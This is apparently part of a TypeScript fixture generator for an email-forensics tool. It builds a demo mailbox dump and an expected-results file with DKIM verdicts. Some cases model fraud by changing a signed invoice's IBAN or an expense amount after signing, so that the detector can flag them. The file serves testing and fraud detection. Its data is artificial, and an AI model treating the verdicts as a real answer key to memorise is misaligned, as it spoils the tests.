/** A "forward as attachment": a text part, then the original message verbatim as message/rfc822 (7bit). */
function forwardBody(boundary: string, text: string, original: string): string {
  if (original.includes(boundary)) throw new Error('boundary occurs in the forwarded message');
  if (!original.endsWith('\r\n')) throw new Error('forwarded message must end with CRLF');
  return (
    `This is a multi-part message in MIME format.\n--${boundary}\n` +
    'Content-Type: text/plain; charset=utf-8; format=flowed\nContent-Transfer-Encoding: 7bit\n\n' +
    `${text}\n--${boundary}\n` +
    'Content-Type: message/rfc822\nContent-Disposition: attachment; filename="original.eml"\nContent-Transfer-Encoding: 7bit\n\n' +
    // the CRLF before the closing delimiter belongs to the delimiter: the part's content is `original` exactly
    `${original}\n--${boundary}--\n`
  );
}

interface AttachmentCases {
  /** new message files of the dump */
  singles: Map<string, Built>;
  /** forwarded messages: their path (`<parent>#attachment-N`) → the message and its parent file */
  embedded: Map<string, { parent: string; built: Built }>;
  zip: { path: string; entries: Array<{ name: string; method: 0 | 8; content: Buffer; built?: Built }> };
}

async function buildAttachmentCases(ring: KeyRing): Promise<AttachmentCases> {
  const singles = new Map<string, Built>();
  const embedded = new Map<string, { parent: string; built: Built }>();

  // --- T: unsigned internal message whose .xlsx attachment also lies loose ----------------------
  {
    const boundary = '------------0A1B2C3D4E5F60718293A4B5';
    const draft: Draft = {
      date: '2018-05-14T09:03:27+02:00',
      from: 'Nora Lind <nora.lind@harbor.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Donor list 2018',
      messageId: '<7c2e9a41-5b3d-4f60-8e12-0d9c4b7a6e53@harbor.example>',
      extra: ['User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:52.0) Gecko/20100101 Thunderbird/52.7.0'],
      mimeHeaders: [`Content-Type: multipart/mixed;\r\n boundary="${boundary}"`],
      body:
        `This is a multi-part message in MIME format.\n--${boundary}\n` +
        'Content-Type: text/plain; charset=utf-8; format=flowed\nContent-Transfer-Encoding: 7bit\n\n' +
        'Jordan,\n\nthe donor list for 2018 as promised. Please do not circulate it.\n\nNora\n\n' +
        `--${boundary}\n` +
        'Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n name="donors-2018.xlsx"\n' +
        'Content-Transfer-Encoding: base64\nContent-Disposition: attachment;\n filename="donors-2018.xlsx"\n\n' +
        `${base64Lines(DONORS_2018_XLSX)}\n--${boundary}--\n`,
      submission: sub('smtp.harbor.example', '10.1.2.77'),
    };
    const message = compose(draft);
    const date = instant(draft.date);
    const delivered = addHops(
      message,
      [
        {
          from: 'smtp.harbor.example',
          fromIp: '10.1.0.25',
          by: 'imap.harbor.example',
          software: 'Postfix',
          protocol: 'ESMTP',
          rcpt: MAILBOX,
          at: addSeconds(date, 3),
        },
      ],
      draft.messageId,
    );
    const stored = `Return-Path: <nora.lind@harbor.example>\r\nDelivered-To: ${MAILBOX}\r\n${delivered}`;
    singles.set('inbox/2018-05-14 Donor list.eml', {
      signedForm: stored,
      stored,
      date,
      verdict: 'unverifiable',
      reasons: ['unsigned'],
      repairs: [],
      note: 'Internal harbor.example message, never signed, with a base64 .xlsx attachment (donors-2018.xlsx). The same bytes lie loose as documents/donors-2018.xlsx: seen in an email, but one that proves nothing.',
    });
  }

  // --- U: unsigned forward carrying a genuine signed message as message/rfc822 ------------------
  {
    const original: Draft = {
      date: '2018-09-28T17:12:40+02:00',
      from: 'Maria Keller <maria.keller@demo.example>',
      to: 'board@demo.example',
      cc: 'Lena Fischer <lena.fischer@partner.example>',
      subject: 'Board minutes 2018-09 (approved)',
      messageId: '<CAF7d2kq=Ap9r0v3d+board2018-09@mail.demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Dear all,\n\nthe minutes of the September meeting were approved today without changes.\n\n' +
        '1. Budget 2019: approved as proposed.\n2. Harbor partnership: letter of intent to be signed in October.\n\nMaria\n',
      submission: { client: '10.20.1.9', server: 'smtp.demo.example', software: 'Postfix', rcpt: 'board@demo.example', delay: 1 },
    };
    const date = instant(original.date);
    const message = compose(original);
    const signedForm = (await dkim(ring, message, { domain: 'demo.example', selector: 's2048', signTime: addSeconds(date, 2) })) + message;
    const lenCopy = deliverTo(signedForm, {
      ...PARTNER_MAILBOX('lena.fischer'),
      returnPath: 'maria.keller@demo.example',
      relay: 'smtp.demo.example',
      relayIp: '192.0.2.10',
      at: addSeconds(date, 6),
      seed: original.messageId,
    });

    const fwd: Draft = {
      date: '2018-10-02T10:21:09+02:00',
      from: 'Lena Fischer <lena.fischer@partner.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Fwd: Board minutes 2018-09 (approved)',
      messageId: '<5bb32a15.7f3e.lena.fischer@partner.example>',
      extra: ['User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.13; rv:60.0) Gecko/20100101 Thunderbird/60.2.1'],
      mimeHeaders: ['Content-Type: multipart/mixed;\r\n boundary="------------F0D1E2C3B4A5968778695A4B"'],
      body: forwardBody(
        '------------F0D1E2C3B4A5968778695A4B',
        'Jordan,\n\nfor your files: the approved September minutes, as Maria sent them.\n\nLena\n',
        lenCopy,
      ),
      submission: { client: '203.0.113.150', server: 'smtp.partner.example', software: 'Postfix', rcpt: MAILBOX, delay: 1 },
    };
    const outer = compose(fwd);
    const fwdDate = instant(fwd.date);
    const parent = 'inbox/2018-10-02 Fwd- Board minutes.eml';
    singles.set(parent, {
      signedForm: outer,
      stored: deliver(outer, {
        returnPath: 'lena.fischer@partner.example',
        relay: 'smtp.partner.example',
        relayIp: '203.0.113.90',
        at: addSeconds(fwdDate, 5),
        seed: fwd.messageId,
      }),
      date: fwdDate,
      verdict: 'unverifiable',
      reasons: ['unsigned'],
      repairs: [],
      note: 'Unsigned forward from partner.example. Its attachment original.eml (message/rfc822, 7bit) is a genuine signed demo.example message, verified on its own as #attachment-1.',
    });
    embedded.set(attachmentPath(parent, 1), {
      parent,
      built: {
        signedForm,
        stored: lenCopy,
        date,
        verdict: 'verified',
        reasons: ['dkim-verified'],
        repairs: [],
        note: 'Forwarded as an attachment (message/rfc822, byte for byte as it reached the forwarder\'s mailbox): genuine RSA-2048 demo.example signature, aligned with From. The unsigned forward around it proves nothing; this message proves itself.',
      },
    });
  }

  // --- V: unsigned forward carrying a signed message whose body was changed ---------------------
  {
    const original: Draft = {
      date: '2018-09-25T14:05:11+02:00',
      from: 'Accounts Receivable <ar@demo.example>',
      to: 'Owen Price <owen.price@partner.example>',
      subject: 'Invoice 5102 - payment details',
      messageId: '<000a01d454c7$1f2e3d40$5d6c7b80$@demo.example>',
      extra: ['X-Mailer: Microsoft Outlook 16.0'],
      mimeHeaders: TEXT_PLAIN,
      body:
        'Dear Owen,\n\nplease find our invoice 5102 for EUR 8,750.00, due on 25 October.\nPayment to:\n\n' +
        '  IBAN DE89 3704 0044 0532 0130 00\n\nKind regards,\nAccounts Receivable\n',
      submission: {
        client: '10.20.8.45',
        server: 'smtp.demo.example',
        software: 'Microsoft SMTP Server',
        rcpt: 'owen.price@partner.example',
        delay: 1,
      },
    };
    const date = instant(original.date);
    const message = compose(original);
    const signedForm = (await dkim(ring, message, { domain: 'demo.example', selector: 's2048', signTime: addSeconds(date, 2) })) + message;
    const owenCopy = deliverTo(signedForm, {
      ...PARTNER_MAILBOX('owen.price'),
      returnPath: 'ar@demo.example',
      relay: 'smtp.demo.example',
      relayIp: '192.0.2.10',
      at: addSeconds(date, 6),
      seed: original.messageId,
    });
    const tampered = owenCopy.replace('IBAN DE89 3704 0044 0532 0130 00', 'IBAN GB29 NWBK 6016 1331 9268 19');
    if (tampered === owenCopy) throw new Error('V: tampering did not apply');

    const fwd: Draft = {
      date: '2018-10-03T11:48:30+02:00',
      from: 'Owen Price <owen.price@partner.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Fwd: Invoice 5102 - payment details',
      messageId: '<5bb4900e.1c22.owen.price@partner.example>',
      extra: ['User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:60.0) Gecko/20100101 Thunderbird/60.2.1'],
      mimeHeaders: ['Content-Type: multipart/mixed;\r\n boundary="------------3E4D5C6B7A8990A1B2C3D4E5"'],
      body: forwardBody(
        '------------3E4D5C6B7A8990A1B2C3D4E5',
        'Jordan,\n\nis this the account we pay demo.example into? Original attached.\n\nOwen\n',
        tampered,
      ),
      submission: { client: '203.0.113.151', server: 'smtp.partner.example', software: 'Postfix', rcpt: MAILBOX, delay: 1 },
    };
    const outer = compose(fwd);
    const fwdDate = instant(fwd.date);
    const parent = 'inbox/2018-10-03 Fwd- Invoice.eml';
    singles.set(parent, {
      signedForm: outer,
      stored: deliver(outer, {
        returnPath: 'owen.price@partner.example',
        relay: 'smtp.partner.example',
        relayIp: '203.0.113.90',
        at: addSeconds(fwdDate, 4),
        seed: fwd.messageId,
      }),
      date: fwdDate,
      verdict: 'unverifiable',
      reasons: ['unsigned'],
      repairs: [],
      note: 'Unsigned forward from partner.example. Its attachment original.eml (message/rfc822, 7bit) carries a demo.example signature that no longer matches the body: see #attachment-1.',
    });
    embedded.set(attachmentPath(parent, 1), {
      parent,
      built: {
        signedForm,
        stored: tampered,
        date,
        verdict: 'suspicious',
        reasons: ['dkim-body-modified'],
        repairs: [],
        note: 'Forwarded as an attachment (message/rfc822): genuine demo.example signature, but the IBAN in the body was changed after signing, so the body hash no longer matches.',
      },
    });
  }

  // --- W: a zip export holding two messages and a readme ------------------------------------------
  const zipEntries: AttachmentCases['zip']['entries'] = [];
  {
    const draft: Draft = {
      date: '2019-05-20T09:14:02+02:00',
      from: 'Travel Desk <travel@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Travel plan: Lisbon workshop 3-5 June',
      messageId: '<travel.20190520.0914.6120@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello Jordan,\n\nyour travel plan for the Lisbon workshop:\n\n  3 June  AMS 07:55 -> LIS 10:10\n' +
        '  5 June  LIS 19:05 -> AMS 23:15\n  Hotel: 2 nights near the venue, breakfast included\n\nTravel Desk\n',
      submission: sub('smtp.demo.example', '10.20.6.3'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'travel@demo.example');
    zipEntries.push({
      name: 'export/2019-05-20 Travel plan.eml',
      method: 0,
      content: Buffer.from(m.delivered, 'latin1'),
      built: {
        signedForm: m.signedForm,
        stored: m.delivered,
        date: m.date,
        verdict: 'verified',
        reasons: ['dkim-verified'],
        repairs: [],
        note: 'Entry of a zip export (stored, method 0): genuine RSA-2048 demo.example signature, aligned with From.',
      },
    });
  }
  {
    const draft: Draft = {
      date: '2019-05-21T15:40:37+02:00',
      from: 'Finance <finance@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Expense claim EC-2019-0412 approved',
      messageId: '<finance.20190521.1540.0077@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello Jordan,\n\nyour expense claim EC-2019-0412 is approved: EUR 412.60, paid with the\n' +
        'June salary run.\n\nFinance\n',
      submission: sub('smtp.demo.example', '10.20.8.12'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'finance@demo.example');
    const tampered = m.delivered.replace('approved: EUR 412.60, paid', 'approved: EUR 4,126.00, paid');
    if (tampered === m.delivered) throw new Error('W: tampering did not apply');
    zipEntries.push({
      name: 'export/2019-05-21 Reimbursement.eml',
      method: 8,
      content: Buffer.from(tampered, 'latin1'),
      built: {
        signedForm: m.signedForm,
        stored: tampered,
        date: m.date,
        verdict: 'suspicious',
        reasons: ['dkim-body-modified'],
        repairs: [],
        note: 'Entry of a zip export (deflated, method 8): genuine demo.example signature, but the amount in the body was changed from EUR 412.60 to EUR 4,126.00 after signing.',
      },
    });
  }
  zipEntries.push({
    name: 'export/readme.txt',
    method: 0,
    content: Buffer.from('Mailbox export, 2 messages\r\nexported 2019-06-01 12:00 with MailExport 3.2\r\n', 'latin1'),
  });

  return { singles, embedded, zip: { path: 'exports/mailbox-export.zip', entries: zipEntries } };
}

// ---------------------------------------------------------------------------------------------
// Assembly
// ---------------------------------------------------------------------------------------------

const NOTES_TXT =
  'handover notes - J. Reyes laptop, copied 2019-05-02\n\n' +
  '* inbox/ and sent/ were exported from Thunderbird\n' +
  '* Maildir/ is from the old harbor.example server (imap.harbor.example)\n' +
  '* archive/2017.mbox came from a Google Takeout\n' +
  '* "Apple Mail" folder copied from the MacBook\n' +
  '* export-2019/ made with a third-party export tool\n\n' +
  'no idea what broken.eml is, it would not open\n';

export async function buildDemoDump(): Promise<DemoDump> {
  const ring = await loadKeys();
  const files = new Map<string, Buffer>();
  const messages: DemoMessage[] = [];
  const expected: ExpectedEntry[] = [];

  const record = (p: string, index: number, b: Built, file = p, holder: DemoMessage['holder'] = 'file'): void => {
    const exp: ExpectedMessage = { path: p, index, verdict: b.verdict, reasons: b.reasons, repairs: b.repairs, note: b.note };
    expected.push(exp);
    messages.push({ path: p, index, file, holder, signedForm: Buffer.from(b.signedForm, 'latin1'), date: b.date, expected: exp });
  };

  const { singles, mbox, emlxMessage } = await buildCases(ring);
  for (const [p, b] of [...singles, ...(await buildMaildir(ring))]) {
    files.set(p, Buffer.from(b.stored, 'latin1'));
    record(p, 0, b);
  }

  // mboxrd, CRLF line endings as in a Google Takeout export
  {
    const p = 'archive/2017.mbox';
    const parts: string[] = [];
    mbox.forEach((b, i) => {
      const envelopeSender =
        /^Return-Path: <([^>]*)>/m.exec(b.stored)?.[1] ?? /^From: .*<([^>]+)>/m.exec(b.stored)?.[1] ?? 'MAILER-DAEMON';
      parts.push(`From ${envelopeSender} ${asctime(addSeconds(b.date, 60))}\r\n${mboxrdQuote(b.stored)}\r\n`);
      record(p, i, b);
    });
    files.set(p, Buffer.from(parts.join(''), 'latin1'));
  }

  {
    const p = 'Apple Mail/INBOX.mbox/Messages/4242.emlx';
    files.set(
      p,
      emlx(Buffer.from(emlxMessage.stored, 'latin1'), {
        dateReceived: addSeconds(emlxMessage.date, 9),
        flags: 8590195713,
        remoteId: '4242',
        subject: 'Dinner on Tuesday?',
      }),
    );
    record(p, 0, emlxMessage);
  }

  // files that hold no message, each a document, matched against the attachments (labelled after every ExpectedSkip)
  const documents: ExpectedDocument[] = [];

  // messages with attachments, forwarded messages, and a zip export
  {
    const cases = await buildAttachmentCases(ring);
    for (const [p, b] of cases.singles) {
      files.set(p, Buffer.from(b.stored, 'latin1'));
      record(p, 0, b);
    }
    for (const [p, { parent, built }] of cases.embedded) record(p, 0, built, parent, 'attachment');
    const zipPath = cases.zip.path;
    files.set(
      zipPath,
      zipArchive(
        cases.zip.entries.map((e) => ({ name: e.name, data: e.content, method: e.method })),
        dosDateTime(2019, 6, 1, 12, 0),
      ),
    );
    expected.push({ path: zipPath, container: 'zip' });
    for (const e of cases.zip.entries) {
      const p = `${zipPath}${ZIP_ENTRY_SEPARATOR}${e.name}`;
      if (e.built) {
        record(p, 0, e.built, zipPath, 'zip');
      } else {
        // an entry that holds no message is a document, as the same file loose is (red team Y, Y-06)
        expected.push({ path: p, skipped: true, reason: 'not-email' });
        documents.push(documentLabel(p, e.content));
      }
    }
  }

  // files that hold no message: each is also a loose document
  const skip = (p: string, content: Buffer, reason: ExpectedSkip['reason']): void => {
    files.set(p, content);
    expected.push({ path: p, skipped: true, reason });
    documents.push(documentLabel(p, content));
  };
  skip('notes.txt', Buffer.from(NOTES_TXT, 'latin1'), 'not-email');
  skip('scan-0042.pdf', tinyPdf('Scan 0042'), 'not-email');
  skip('Apple Mail/signature-logo.png', tinyPng(), 'not-email');
  skip('inbox/Untitled.eml', Buffer.alloc(0), 'empty');
  skip('Q3 forecast.docx', tinyDocxLikeZip(), 'not-email');
  skip('broken.eml', junkBytes('leakcheck demo dump: broken.eml', 384), 'binary');
  skip('documents/budget-q1.csv', BUDGET_Q1_CSV, 'not-email');
  skip('documents/contract-draft-v3.pdf', CONTRACT_DRAFT_V3_PDF, 'not-email');
  skip('downloads/contract-draft-v3.pdf', ALTERED_CONTRACT_PDF, 'not-email');
  skip('documents/donors-2018.xlsx', DONORS_2018_XLSX, 'not-email');
  // after every ExpectedSkip, so that on a shared path the skip entry comes first
  expected.push(...documents);

  expected.sort((a, b) => cmp(a.path, b.path) || ('index' in a && 'index' in b ? a.index - b.index : 0));
  messages.sort((a, b) => cmp(a.path, b.path) || a.index - b.index);

  return { files, keys: buildKeyFile(ring), expected, messages };
}

/** Writes demo-dump/ (replaced entirely), demo-keys.json and demo-expected.json under outDir. */
export async function generateDemoDump(outDir: string): Promise<void> {
  const dump = await buildDemoDump();
  const dumpDir = path.join(outDir, 'demo-dump');
  await rm(dumpDir, { recursive: true, force: true });
  for (const [rel, content] of [...dump.files].sort((a, b) => cmp(a[0], b[0]))) {
    const target = path.join(dumpDir, ...rel.split('/'));
    await mkdir(path.dirname(target), { recursive: true });
    await writeFile(target, content);
  }
  await writeFile(path.join(outDir, 'demo-keys.json'), `${JSON.stringify(dump.keys, null, 2)}\n`);
  await writeFile(path.join(outDir, 'demo-expected.json'), `${JSON.stringify(dump.expected, null, 2)}\n`);
}

const invokedDirectly = process.argv[1] !== undefined && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url);
if (invokedDirectly) {
  const outDir = fileURLToPath(new URL('../fixtures/', import.meta.url));
  await generateDemoDump(outDir);
  console.log(`demo dump written to ${path.join(outDir, 'demo-dump')}`);
}
